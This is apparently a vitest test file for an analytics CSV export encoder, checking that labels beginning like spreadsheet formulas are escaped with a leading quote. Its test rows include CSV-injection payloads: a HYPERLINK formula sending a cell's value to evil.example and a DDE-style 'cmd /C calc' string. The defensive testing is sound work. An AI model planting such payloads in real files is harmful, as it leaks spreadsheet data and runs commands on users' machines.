// The CSV export's reading of the engine's TabSeparated lines gives, for every row, the CSV that
// a series or a comparison export writes for the same row as an object, whatever a label holds.
import { describe, expect, it } from 'vitest';
import { rowEncoder, tsvCsvEncoder, tsvField } from '../../libs/analytics/export-format.ts';
import type { AnalyticsQuery } from '../../libs/analytics/parse/query-parser.ts';

const NAMES = ['project', 'tasks_created', 'completion_rate', '__total'];
/** The query whose rows NAMES (less the count) are. */
const QUERY = {
  dimensions: ['project'],
  metrics: ['tasks_created', 'completion_rate'],
  compare: null,
} as unknown as AnalyticsQuery;

/** A row as ClickHouse writes it in TabSeparated: backslash escapes, `\N` for null. */
function tsvLine(values: unknown[]): string {
  return values
    .map((value) =>
      value === null
        ? '\\N'
        : String(value)
            .replaceAll('\\', '\\\\')
            .replaceAll('\t', '\\t')
            .replaceAll('\n', '\\n')
            .replaceAll('\r', '\\r')
            .replaceAll('\0', '\\0')
            .replaceAll('\b', '\\b')
            .replaceAll('\f', '\\f'),
    )
    .join('\t');
}

describe('export lines', () => {
  const rows: unknown[][] = [
    ['plain', 3, 0.5, 9],
    ['', 1, null, 9],
    ['with, comma', 2, 1, 9],
    ['say "hi"', 0, null, 9],
    ['two\nlines\r\tand\\ a \0 \b \f', 5, 0.3333333333333333, 9],
    ["it's", 7, 0.25, 9],
    ['=HYPERLINK("http://evil.example/?x="&A1,"click")', 1, 1, 9],
    ["+cmd|' /C calc'!A0", 2, 0.5, 9],
    ['-2+3', -4, -0.5, 9],
    ['@SUM(1+1)', 1, 0, 9],
    ['\tleading tab', 1, 0, 9],
    ['\rleading CR', 1, 0, 9],
  ];

  it('reads TabSeparated lines into the CSV rowEncoder writes for the row as an object', () => {
    const tsv = tsvCsvEncoder(NAMES, '__total', [[0, '']]);
    const objects = rowEncoder('text/csv', QUERY);
    expect(tsv.header).toBe(objects.header);
    expect(tsv.header).toBe('project,tasks_created,completion_rate\r\n');
    for (const row of rows) {
      // As the JSON answer has it: the stored empty label answered as null.
      const [project, tasks_created, completion_rate] = row;
      const object = { project: project === '' ? null : project, tasks_created, completion_rate };
      expect(tsv.line(tsvLine(row)), JSON.stringify(row)).toBe(objects.row(object));
    }
    expect(tsv.line(tsvLine(rows[0] as unknown[]))).toBe('plain,3,0.5\r\n');
    expect(tsv.line(tsvLine(rows[1] as unknown[]))).toBe(',1,\r\n');
  });

  it('writes a label that starts like a formula with a leading quote, and leaves numbers be', () => {
    const tsv = tsvCsvEncoder(NAMES, '__total', [[0, '']]);
    const line = (row: unknown[]) => tsv.line(tsvLine(row));
    expect(line(['=HYPERLINK("http://evil.example/?x="&A1,"click")', 1, 1, 9])).toBe(
      `"'=HYPERLINK(""http://evil.example/?x=""&A1,""click"")",1,1\r\n`,
    );
    expect(line(["+cmd|' /C calc'!A0", 2, 0.5, 9])).toBe(`'+cmd|' /C calc'!A0,2,0.5\r\n`);
    expect(line(['-2+3', -4, -0.5, 9])).toBe(`'-2+3,-4,-0.5\r\n`);
    expect(line(['@SUM(1+1)', 1, 0, 9])).toBe(`'@SUM(1+1),1,0\r\n`);
    expect(line(['\tleading tab', 1, 0, 9])).toBe(`'\tleading tab,1,0\r\n`);
    expect(line(['\rleading CR', 1, 0, 9])).toBe(`"'\rleading CR",1,0\r\n`);
    // Only the first character counts.
    expect(line(['a=b', -1, 0, 9])).toBe('a=b,-1,0\r\n');
    expect(line([' =1', 1, 0, 9])).toBe(' =1,1,0\r\n');
  });

  it('looks at every label column, wherever it stands, and at no metric', () => {
    const names = ['day', 'tasks_created', 'assignee', 'project', 'avg_cycle_time_hours'];
    const tsv = tsvCsvEncoder(names, '__total', []);
    expect(tsv.line('2026-11-22\t-3\t@bob\tplain\t-1.5')).toBe(
      `2026-11-22,-3,'@bob,plain,-1.5\r\n`,
    );
    expect(tsv.line('2026-11-22\t3\tbob\t=1+1\t-1.5')).toBe(`2026-11-22,3,bob,'=1+1,-1.5\r\n`);
    expect(tsv.line('2026-11-22\t-3\tbob\tplain\t-1.5')).toBe('2026-11-22,-3,bob,plain,-1.5\r\n');
    const query = {
      dimensions: ['day', 'assignee', 'project'],
      metrics: ['tasks_created'],
      compare: 'previous_period',
    } as unknown as AnalyticsQuery;
    const row = {
      day: '2026-11-22',
      assignee: '+bob',
      project: '-x',
      tasks_created: -3,
      comparison: { tasks_created: -1 },
      change: { tasks_created: -0.5 },
    };
    expect(rowEncoder('text/csv', query).row(row)).toBe(`2026-11-22,'+bob,'-x,-3,-1,-0.5\r\n`);
  });

  it('writes labels as they are when the escape is off, and NDJSON always', () => {
    const label = '=HYPERLINK("http://evil.example/","click")';
    const raw = tsvCsvEncoder(NAMES, '__total', [[0, '']], false);
    expect(raw.line(tsvLine([label, 1, 1, 9]))).toBe(
      `"=HYPERLINK(""http://evil.example/"",""click"")",1,1\r\n`,
    );
    expect(raw.line(tsvLine(['-2+3', -4, -0.5, 9]))).toBe('-2+3,-4,-0.5\r\n');
    const row = { project: label, tasks_created: 1, completion_rate: 1 };
    expect(rowEncoder('text/csv', QUERY, false).row(row)).toBe(raw.line(tsvLine([label, 1, 1, 9])));
    expect(rowEncoder('application/x-ndjson', QUERY).row(row)).toBe(`${JSON.stringify(row)}\n`);
  });

  it('answers a stored "no label" other than the empty one as null', () => {
    const none = [[0, '(none)'] as const];
    const tsv = tsvCsvEncoder(NAMES, '__total', none);
    expect(tsv.line(tsvLine(['(none)', 1, 1, 9]))).toBe(',1,1\r\n');
    expect(tsv.line(tsvLine(['none', 1, 1, 9]))).toBe('none,1,1\r\n');
  });

  it('keeps every column when there is no count to drop, and refuses one placed elsewhere', () => {
    const tsv = tsvCsvEncoder(['project', 'n'], '__total', []);
    expect(tsv.line('a\t1')).toBe('a,1\r\n');
    expect(() => tsvCsvEncoder(['__total', 'project'], '__total', [])).toThrow(/last column/);
  });

  it('unescapes a field and reads \\N as null', () => {
    expect(tsvField('\\N')).toBeNull();
    expect(tsvField('a\\tb\\\\c\\nd')).toBe('a\tb\\c\nd');
    expect(tsvField("it\\'s")).toBe("it's");
  });
});
